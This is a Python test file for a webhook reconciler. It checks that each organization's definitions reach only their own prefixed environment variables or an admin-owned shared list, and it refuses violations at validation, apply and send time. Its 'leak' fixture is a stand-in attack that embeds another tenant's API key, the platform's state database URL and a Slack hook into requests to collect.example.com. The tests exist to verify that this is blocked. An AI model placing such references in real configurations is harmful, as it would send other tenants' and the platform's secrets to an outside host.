"""Every organization reaches only its own `${env:}` variables, and the shared list.

`validate` (so plan and apply) refuses a reference to another organization's
variable, or to the platform's own, at its line and column; the shared list lives
in webhooks.d/shared-env.yaml, which apply records in the state; and the
dispatcher refuses again at send time, whatever wrote the state.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from reconciler import envaccess, scaffold
from reconciler.apply import ApplyOptions, apply
from reconciler.dispatch.service import make_sender
from reconciler.dispatch.ssrf import NetworkPolicy
from reconciler.dispatch.worker import Database, Worker
from reconciler.errors import StaleState
from reconciler.loader import load_definitions
from reconciler.plan import Plan, make_plan
from reconciler.store.base import Write
from reconciler.store.queue import EventKey, EventRecord
from reconciler.store.sqlite import SqliteStore
from tests.support.helpers_state import (
    FakeApprover,
    FakeClock,
    cli_env,
    definition,
    make_state,
    put_specs,
    run_cli,
    spec,
    sqlite_url,
    write_definition,
)
from tests.support.receiver import Receiver

LOOPBACK_ALLOWED = NetworkPolicy.from_options(False, ["127.0.0.1/32"])
SHARED_MESSAGE = "acme's definitions may read ACME_* variables or the shared list in {where}"

# What the dispatcher's environment holds: every value here is a secret of someone.
ENV = {
    "ACME_TOKEN": "acme-own-token",
    "ACME_CORP_TOKEN": "acme-corp-secret-value",
    "GLOBEX_API_KEY": "globex-secret-value",
    "HOME": "/home/dispatcher-secret",
    "RECONCILER_STATE": "postgresql://user:state-password@db/state",
    "RELAY_TOKEN": "relay-shared-value",
    "SLACK_URL": "https://hooks.slack.com/services/nobodys-secret",
}


def problems(folder: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.chdir(folder.parent)
    return [str(p) for p in load_definitions(Path(folder.name)).problems]


def shared_file(folder: Path, text: str) -> Path:
    path = folder / envaccess.SHARED_ENV_FILE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# -- the rule -----------------------------------------------------------------------


def test_the_prefix_is_the_name_upper_cased_with_dashes_as_underscores() -> None:
    assert envaccess.prefix("acme") == "ACME_"
    assert envaccess.prefix("acme-corp") == "ACME_CORP_"
    assert envaccess.prefix("acme_corp") == "ACME_CORP_"
    assert envaccess.prefix("9lives") == "9LIVES_"


def test_the_longest_prefix_among_the_known_organizations_owns_a_variable() -> None:
    both = envaccess.EnvAccess(frozenset({"acme", "acme-corp"}))
    assert both.owners("ACME_CORP_TOKEN") == ["acme-corp"]
    assert both.owners("ACME_CORPORATE_TOKEN") == ["acme"]  # not ACME_CORP_ + ...
    assert both.owners("ACME_TOKEN") == ["acme"]
    assert both.owners("acme_token") == []  # names match case-sensitively
    assert both.refusal("acme", "ACME_CORP_TOKEN") is not None
    assert both.refusal("acme-corp", "ACME_CORP_TOKEN") is None
    alone = envaccess.EnvAccess(frozenset({"acme"}))
    assert alone.refusal("acme", "ACME_CORP_TOKEN") is None


def test_coinciding_prefixes_own_nothing() -> None:
    access = envaccess.EnvAccess(frozenset({"acme-corp", "acme_corp"}))
    assert access.collisions() == [["acme-corp", "acme_corp"]]
    for organization in ("acme-corp", "acme_corp"):
        why = access.refusal(organization, "ACME_CORP_TOKEN")
        assert why is not None and "acme-corp and acme_corp" in why


@pytest.mark.parametrize(
    "name", ["HOME", "PATH", "home", "RECONCILER_STATE", "LC_ALL", "AWS_SECRET_ACCESS_KEY"]
)
def test_the_platforms_own_variables_are_read_by_nobody_even_when_shared(name: str) -> None:
    access = envaccess.EnvAccess(frozenset({"acme"}), {name: "a reason"})
    assert "platform's own" in (access.refusal("acme", name) or "")
    assert envaccess.shared_name_problem(name, ["acme"]) is not None


def test_an_organization_whose_prefix_is_the_platforms_is_refused() -> None:
    assert envaccess.organization_problem("reconciler") is not None
    assert envaccess.organization_problem("reconciler-ops") is not None
    assert envaccess.organization_problem("acme") is None


def test_a_scoped_environment_refuses_on_lookup_and_on_membership() -> None:
    access = envaccess.EnvAccess(frozenset({"acme", "globex"}), {"RELAY_TOKEN": "relay"})
    env = access.scoped(ENV, "acme")
    assert env["ACME_TOKEN"] == "acme-own-token"
    assert env["RELAY_TOKEN"] == "relay-shared-value"
    assert sorted(env) == ["ACME_CORP_TOKEN", "ACME_TOKEN", "RELAY_TOKEN"]
    for name in ("GLOBEX_API_KEY", "HOME", "RECONCILER_STATE", "SLACK_URL"):
        with pytest.raises(envaccess.EnvRefused) as refused:
            _ = name in env
        assert name in str(refused.value)
        assert ENV[name] not in str(refused.value)


# -- validate -----------------------------------------------------------------------


CROSS = """\
name: leak
event: new_rule_violation
method: POST
url: https://collect.example.com/in?k=${env:GLOBEX_API_KEY}
headers:
  X-Also: ${env:HOME}
  X-Own: ${env:ACME_TOKEN}
query:
  k: "${env:GLOBEX_API_KEY}"
  escaped: "\\x24{env:RECONCILER_STATE}"
body:
  nested: ["${env:GLOBEX_API_KEY}"]
signing_secret: ${env:ACME_SIGNING} ${env:SLACK_URL}
"""


def test_validate_refuses_another_organizations_and_the_platforms_variables_where_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", CROSS)
    write_definition(folder, "globex", definition("finops"))
    allowed = SHARED_MESSAGE.format(where="webhooks.d/shared-env.yaml")
    assert problems(folder, monkeypatch) == [
        "webhooks.d/acme/leak.yaml:4:6: url: ${env:GLOBEX_API_KEY} belongs to organization "
        f"globex; {allowed}",
        "webhooks.d/acme/leak.yaml:6:11: headers.X-Also: ${env:HOME} is the platform's own "
        f"(the dispatcher's environment), never read by a definition; {allowed}",
        "webhooks.d/acme/leak.yaml:9:6: query.k: ${env:GLOBEX_API_KEY} belongs to "
        f"organization globex; {allowed}",
        "webhooks.d/acme/leak.yaml:10:12: query.escaped: ${env:RECONCILER_STATE} is the "
        f"platform's own (the dispatcher's environment), never read by a definition; {allowed}",
        "webhooks.d/acme/leak.yaml:12:12: body.nested[0]: ${env:...} references are resolved "
        "only in url, header values, query values and signing_secret",
        "webhooks.d/acme/leak.yaml:12:12: body.nested[0]: ${env:GLOBEX_API_KEY} belongs to "
        f"organization globex; {allowed}",
        "webhooks.d/acme/leak.yaml:13:17: signing_secret: ${env:SLACK_URL} belongs to no "
        f"organization and is not on the shared list; {allowed}",
    ]


def test_validate_accepts_its_own_prefix_and_the_shared_list(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(
        folder,
        "acme",
        definition(
            "fine",
            url="${env:ACME_HOOK_URL}",
            headers={"Authorization": "Bearer ${env:ACME_TOKEN}", "X-Relay": "${env:RELAY_TOKEN}"},
            query={"relay": "${env:RELAY_TOKEN}"},
            signing_secret="${env:ACME_SIGNING}",
        ),
    )
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay every organization posts through.\n")
    assert problems(folder, monkeypatch) == []
    result = load_definitions(folder)
    assert result.shared_env == {"RELAY_TOKEN": "The relay every organization posts through."}
    assert [d.spec.name for d in result.definitions] == ["fine"]  # the list is no definition


def test_a_variable_of_a_longer_prefix_belongs_to_that_organization_once_it_exists(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    hook = write_definition(
        folder, "acme", definition("corp", headers={"X-Token": "${env:ACME_CORP_TOKEN}"})
    )
    assert problems(folder, monkeypatch) == []  # no acme-corp: ACME_CORP_TOKEN is acme's
    write_definition(folder, "acme-corp", definition("own", url="${env:ACME_CORP_URL}"))
    allowed = SHARED_MESSAGE.format(where="webhooks.d/shared-env.yaml")
    expected = [
        "webhooks.d/acme/corp.yaml:6:12: headers.X-Token: ${env:ACME_CORP_TOKEN} belongs to "
        f"organization acme-corp; {allowed}"
    ]
    assert problems(folder, monkeypatch) == expected
    # Validating acme's file alone (as pre-commit does) still knows acme-corp's folder.
    monkeypatch.chdir(tmp_path)
    alone = load_definitions(hook.relative_to(tmp_path))
    assert [str(p) for p in alone.problems] == expected


def test_two_organizations_with_the_same_prefix_are_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme-corp", definition("a"))
    write_definition(folder, "acme_corp", definition("b"))
    assert problems(folder, monkeypatch) == [
        "webhooks.d/acme-corp/a.yaml:1:7: organization acme-corp: its variables' prefix "
        "ACME_CORP_ is also organization acme_corp's; rename one of them, as two "
        "organizations never share variables",
        "webhooks.d/acme_corp/b.yaml:1:7: organization acme_corp: its variables' prefix "
        "ACME_CORP_ is also organization acme-corp's; rename one of them, as two "
        "organizations never share variables",
    ]


def test_an_organization_named_for_the_platforms_prefix_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "reconciler", definition("a"))
    assert problems(folder, monkeypatch) == [
        "webhooks.d/reconciler/a.yaml:1:7: organization reconciler: its variables "
        "(RECONCILER_*) are reserved for the platform itself; choose another name"
    ]


def test_the_shared_list_refuses_what_cannot_be_shared_at_its_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "globex", definition("a"))
    shared_file(
        folder,
        "shared:\n"
        "  RELAY_TOKEN: The relay.\n"
        "  GLOBEX_API_KEY: handy\n"
        "  RECONCILER_STATE: handy\n"
        "  HOME: handy\n"
        "  NO_REASON:\n"
        "  bad-name: x\n"
        "extra: 1\n",
    )
    assert problems(folder, monkeypatch) == [
        "webhooks.d/shared-env.yaml:3:3: shared.GLOBEX_API_KEY: GLOBEX_API_KEY belongs to "
        "organization globex (prefix GLOBEX_); a shared variable carries no organization's "
        "prefix",
        "webhooks.d/shared-env.yaml:4:3: shared.RECONCILER_STATE: RECONCILER_STATE is the "
        "platform's own (the dispatcher's environment) and is never shared",
        "webhooks.d/shared-env.yaml:5:3: shared.HOME: HOME is the platform's own (the "
        "dispatcher's environment) and is never shared",
        "webhooks.d/shared-env.yaml:6:13: shared.NO_REASON: give the reason it is shared, "
        "as text (got nothing (null))",
        "webhooks.d/shared-env.yaml:7:3: shared.bad-name: 'bad-name' is not a variable name "
        "(letters, digits and _, not first a digit)",
        "webhooks.d/shared-env.yaml:8:1: unknown field 'extra' (known: shared)",
    ]
    assert load_definitions(folder).shared_env == {"RELAY_TOKEN": "The relay."}


def test_the_cli_validate_exits_1_and_prints_the_located_error(tmp_path: Path) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("x", query={"k": "${env:GLOBEX_API_KEY}"}))
    write_definition(folder, "globex", definition("y"))
    result = run_cli(["validate"], cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout.splitlines()[0] == (
        "webhooks.d/acme/x.yaml:10:6: query.k: ${env:GLOBEX_API_KEY} belongs to organization "
        "globex; acme's definitions may read ACME_* variables or the shared list in "
        "webhooks.d/shared-env.yaml"
    )


def test_render_refuses_a_definition_reading_another_organizations_variable(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("x", headers={"X-K": "${env:GLOBEX_API_KEY}"}))
    write_definition(folder, "globex", definition("y"))
    result = run_cli(["render", "x", "--org", "acme"], cwd=tmp_path, env=cli_env(**ENV))
    assert result.returncode == 1
    assert result.stdout == ""
    assert "webhooks.d/acme/x.yaml:6:8: headers.X-K: ${env:GLOBEX_API_KEY} belongs to" in (
        result.stderr
    )
    assert "globex-secret-value" not in result.stderr


# -- plan and apply: the shared list in the state -------------------------------------


@pytest.fixture
def any_store(each_store: Any) -> Any:
    return each_store


def _plan(store: Any, folder: Path, organization: str | None = None) -> Plan:
    result = load_definitions(folder)
    assert result.ok, [str(p) for p in result.problems]
    return make_plan(
        [d.spec for d in result.definitions],
        store.webhooks(organization),
        store.state(),
        organization=organization,
        shared_env=result.shared_env if organization is None else None,
        live_shared_env=store.shared_env() if organization is None else None,
    )


def _apply(store: Any, make: Callable[[], Plan]) -> Plan:
    options = ApplyOptions(actor="alice", auto_approve=True, allow_delete=True, force=True)
    return apply(store, make, options, FakeApprover(), lambda _p, _r: None).plan


def test_apply_records_the_shared_list_in_the_state_and_the_audit_log(
    any_store: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a", headers={"X": "${env:RELAY_TOKEN}"}))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n  SPARE: Kept for later.\n")
    plan = _plan(any_store, folder)
    assert plan.shared_env is not None
    assert plan.shared_env.lines() == [
        ("share", "RELAY_TOKEN", "The relay."),
        ("share", "SPARE", "Kept for later."),
    ]
    _apply(any_store, lambda: _plan(any_store, folder))
    assert any_store.shared_env() == {"RELAY_TOKEN": "The relay.", "SPARE": "Kept for later."}
    access = any_store.env_access()
    assert access.organizations == {"acme"}
    assert access.refusal("acme", "RELAY_TOKEN") is None
    assert not _plan(any_store, folder).has_changes

    shared_file(folder, "shared:\n  RELAY_TOKEN: The company relay.\n")
    _apply(any_store, lambda: _plan(any_store, folder))
    assert any_store.shared_env() == {"RELAY_TOKEN": "The company relay."}
    entries = [
        (e.record.action, e.record.organization, e.record.name, e.record.before, e.record.after)
        for e in reversed(list(any_store.history()))  # oldest first
        if e.record.organization == envaccess.SHARED_ENV_SCOPE
    ]
    relay, company, spare = (
        {"reason": "The relay."},
        {"reason": "The company relay."},
        {"reason": "Kept for later."},
    )
    assert entries == [
        ("share", "shared-env.yaml", "RELAY_TOKEN", None, relay),
        ("share", "shared-env.yaml", "SPARE", None, spare),
        ("update", "shared-env.yaml", "RELAY_TOKEN", relay, company),
        ("unshare", "shared-env.yaml", "SPARE", spare, None),
    ]
    assert all(e.record.actor == "alice" for e in any_store.history())


def test_a_plan_of_one_organization_leaves_the_shared_list_alone(
    any_store: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a"))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n")
    plan = _plan(any_store, folder, organization="acme")
    assert plan.shared_env is None
    _apply(any_store, lambda: plan)
    assert any_store.shared_env() == {}


def test_a_saved_plan_carries_the_shared_list_under_its_checksum(
    any_store: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a"))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n")
    saved = _plan(any_store, folder).as_json(full=True)
    loaded = Plan.from_json(json.loads(json.dumps(saved)))
    assert loaded.shared_env == _plan(any_store, folder).shared_env
    edited = json.loads(json.dumps(saved))
    edited["shared_env"]["after"]["EXTRA"] = "sneaked in"
    with pytest.raises(Exception, match="checksum"):
        Plan.from_json(edited)
    edited["shared_env"]["after"] = {"HOME": "sneaked in"}
    with pytest.raises(Exception, match="can never be shared"):
        Plan.from_json(edited)


def test_a_saved_plan_is_refused_when_the_live_shared_list_changed_since(
    any_store: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a"))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n")
    saved = Plan.from_json(json.loads(json.dumps(_plan(any_store, folder).as_json(full=True))))
    # Written around apply, the serial untouched: only the plan's `before` can tell.
    text = json.dumps({"OTHER_RELAY": "Written directly."})
    if isinstance(any_store, SqliteStore):
        with any_store._db:
            any_store._db.execute(
                "INSERT INTO meta VALUES ('shared_env', ?) ON CONFLICT (key) DO UPDATE "
                "SET value = excluded.value",
                (text,),
            )
    else:
        with any_store._tx() as cur:
            cur.execute(
                "INSERT INTO meta VALUES ('shared_env', %s) ON CONFLICT (key) DO UPDATE "
                "SET value = excluded.value",
                (text,),
            )
    options = ApplyOptions(actor="alice", auto_approve=True)
    with pytest.raises(StaleState, match="the shared list of variables was changed"):
        apply(any_store, lambda: saved, options, FakeApprover(), lambda _p, _r: None, saved=True)
    assert any_store.shared_env() == {"OTHER_RELAY": "Written directly."}
    assert not any_store.webhooks()


def test_plan_text_shows_the_shared_list_changes(tmp_path: Path) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a"))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n")
    state = make_state(sqlite_url(tmp_path / "state.db"))
    result = run_cli(["plan", "--state", state], cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Shared variables (webhooks.d/shared-env.yaml; every organization may read them)\n" in (
        result.stdout
    )
    assert "  + RELAY_TOKEN  (The relay.)\n" in result.stdout
    assert result.stdout.rstrip().endswith("1 shared variable to change.")


# -- the dispatcher: again at send time -----------------------------------------------

DIRECT = [
    ("url", {"url": "{receiver}?k=${{env:GLOBEX_API_KEY}}"}, "GLOBEX_API_KEY"),
    ("header", {"headers": {"X-Also": "${env:HOME}"}}, "HOME"),
    ("query", {"query": {"state": "${env:RECONCILER_STATE}"}}, "RECONCILER_STATE"),
    ("signing_secret", {"signing_secret": "${env:SLACK_URL}"}, "SLACK_URL"),
    ("longer-prefix", {"headers": {"X-Corp": "${env:ACME_CORP_TOKEN}"}}, "ACME_CORP_TOKEN"),
]


def _deliver(store: Any, clock: FakeClock, event_id: str, organization: str = "acme") -> None:
    store.add_event(
        EventRecord(
            event_id, "new_rule_violation", organization, "rule", "", "2026-01-01T00:00:00Z"
        ),
        clock(),
    )

    async def go() -> None:
        db = Database(store)
        sender = make_sender(10, LOOPBACK_ALLOWED)
        try:
            worker = Worker(db, sender, env=ENV, clock=clock, policy=LOOPBACK_ALLOWED)
            while await worker.run_once():
                pass
        finally:
            await sender.aclose()
            db.close()

    asyncio.run(go())


@pytest.mark.parametrize(("where", "fields", "variable"), DIRECT, ids=[d[0] for d in DIRECT])
def test_the_dispatcher_refuses_a_state_written_around_validate_and_sends_nothing(
    any_store: Any, where: str, fields: dict[str, Any], variable: str
) -> None:
    with Receiver() as receiver:
        fields = {
            key: (value.format(receiver=receiver.url("/leak")) if key == "url" else value)
            for key, value in fields.items()
        }
        put_specs(
            any_store,
            [
                spec("leak", **{"url": receiver.url("/leak"), **fields}),
                spec("own", "acme-corp", url=receiver.url("/corp")),
                spec("finops", "globex", url=receiver.url("/globex")),
            ],
        )
        clock = FakeClock(2_000_000_000.0)
        _deliver(any_store, clock, "evt-1")

        (record,) = any_store.deliveries(event=EventKey("acme", "evt-1"))
        assert record.status == "failed"
        assert record.last_error is not None
        assert record.last_error.startswith(f"not sent: ${{env:{variable}}} ")
        assert "acme's definitions may read ACME_* variables" in record.last_error
        shown = json.dumps([a.as_json() for a in any_store.delivery(record.id)[1]])
        for value in ENV.values():
            assert value not in shown
        clock.sleep(86_400)  # failed for good: no retry is ever due
        _deliver(any_store, clock, "evt-0", organization="globex")  # a run that sends
        assert [r.path for r in receiver.requests()] == ["/globex"]


def test_the_dispatcher_sends_its_own_and_shared_variables(any_store: Any) -> None:
    with Receiver() as receiver:
        hook = spec(
            "fine",
            url=receiver.url("/fine"),
            headers={"X-Own": "${env:ACME_TOKEN}", "X-Relay": "${env:RELAY_TOKEN}"},
        )
        writes = [Write("put", *hook.key, hook.canonical_json())]
        any_store.commit(writes, [], any_store.state().serial, shared_env={"RELAY_TOKEN": "r"})
        _deliver(any_store, FakeClock(2_000_000_000.0), "evt-1")
        (request,) = receiver.requests("/fine")
        assert request.header("X-Own") == "acme-own-token"
        assert request.header("X-Relay") == "relay-shared-value"


def test_a_shared_variable_the_state_does_not_list_is_refused_at_send_time(
    any_store: Any,
) -> None:
    with Receiver() as receiver:
        put_specs(
            any_store, [spec("fine", url=receiver.url("/"), headers={"X": "${env:RELAY_TOKEN}"})]
        )
        _deliver(any_store, FakeClock(2_000_000_000.0), "evt-1")
        (record,) = any_store.deliveries(event=EventKey("acme", "evt-1"))
        assert record.status == "failed"
        assert "not on the shared list" in (record.last_error or "")
        assert receiver.requests() == []


def test_fire_refuses_with_dry_run_and_with_wait(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path / "state.db")
    with Receiver() as receiver:
        try:
            put_specs(
                store,
                [
                    spec("leak", url=receiver.url("/leak"), headers={"X": "${env:GLOBEX_API_KEY}"}),
                    spec("finops", "globex", url=receiver.url("/globex")),
                ],
            )
        finally:
            store.close()
        state = sqlite_url(tmp_path / "state.db")
        fire = ["fire", "new_rule_violation", "--org", "acme", "--name", "r", "--state", state]
        dry = run_cli([*fire, "--dry-run"], cwd=tmp_path, env=cli_env(**ENV))
        assert dry.returncode == 1
        assert dry.stderr == (
            "error: acme/leak: ${env:GLOBEX_API_KEY} belongs to organization globex; acme's "
            "definitions may read ACME_* variables or the shared list in "
            "webhooks.d/shared-env.yaml\n"
        )
        sent = run_cli(
            [*fire, "--wait", "--allow-cidr", "127.0.0.1/32"], cwd=tmp_path, env=cli_env(**ENV)
        )
        assert sent.returncode == 1
        assert (
            "failed" in sent.stdout
            and "${env:GLOBEX_API_KEY} belongs to organization globex" in (sent.stdout)
        )
        assert "globex-secret-value" not in sent.stdout + sent.stderr
        assert receiver.requests() == []


# -- init ---------------------------------------------------------------------------


@pytest.mark.parametrize("organization", ["acme", "acme-corp"])
def test_init_writes_a_shared_list_its_admins_own_and_an_example_on_its_prefix(
    tmp_path: Path, organization: str
) -> None:
    files = scaffold.scaffold(organization, "@acme-corp/webhook-admins").files
    example = files[f"webhooks.d/{organization}/example.yaml"]
    assert f"${{env:{envaccess.prefix(organization)}SLACK_URL}}" in example
    assert "webhooks.d/shared-env.yaml" in files
    owners = [line.split() for line in files[".github/CODEOWNERS"].splitlines()]
    owners = [line for line in owners if line and not line[0].startswith("#")]
    # The last matching line wins: the shared list's is the platform admins' alone,
    # and comes after every folder line.
    matching = [line for line in owners if "/webhooks.d/shared-env.yaml".startswith(line[0])]
    assert matching[-1] == ["/webhooks.d/shared-env.yaml", "@acme-corp/webhook-admins"]
    scaffold.scaffold(organization, "@acme-corp/webhook-admins").write(tmp_path)
    result = run_cli(["validate"], cwd=tmp_path)
    assert result.returncode == 0, result.stdout
    assert load_definitions(tmp_path / "webhooks.d").shared_env == {}


def test_this_repositorys_shared_list_is_owned_by_the_platform_admins_alone(
    repo_root: Path,
) -> None:
    owners = [
        line.split()
        for line in (repo_root / ".github" / "CODEOWNERS").read_text("utf-8").splitlines()
        if line.strip() and not line.startswith("#")
    ]
    matching = [line for line in owners if "/webhooks.d/shared-env.yaml".startswith(line[0])]
    assert matching[-1] == ["/webhooks.d/shared-env.yaml", "@acme-corp/webhook-admins"]
    result = load_definitions(repo_root / "webhooks.d")
    assert result.ok and set(result.shared_env) == {"STATUS_RELAY_URL"}


def test_export_writes_the_shared_list_so_the_export_plans_as_unchanged(tmp_path: Path) -> None:
    folder = tmp_path / "webhooks.d"
    write_definition(folder, "acme", definition("a", headers={"X": "${env:RELAY_TOKEN}"}))
    shared_file(folder, "shared:\n  RELAY_TOKEN: The relay.\n")
    state = sqlite_url(tmp_path / "state.db")
    applied = run_cli(["apply", "--state", state, "--auto-approve"], cwd=tmp_path)
    assert applied.returncode == 0, applied.stderr
    assert "1 shared variable changed" in applied.stdout
    exported = run_cli(["export", "recovered.d", "--state", state], cwd=tmp_path)
    assert exported.stdout == (
        "Exported 1 webhooks and the shared list of variables to recovered.d.\n"
    )
    planned = run_cli(
        ["plan", "recovered.d", "--state", state, "--detailed-exitcode"], cwd=tmp_path
    )
    assert planned.returncode == 0, planned.stdout + planned.stderr
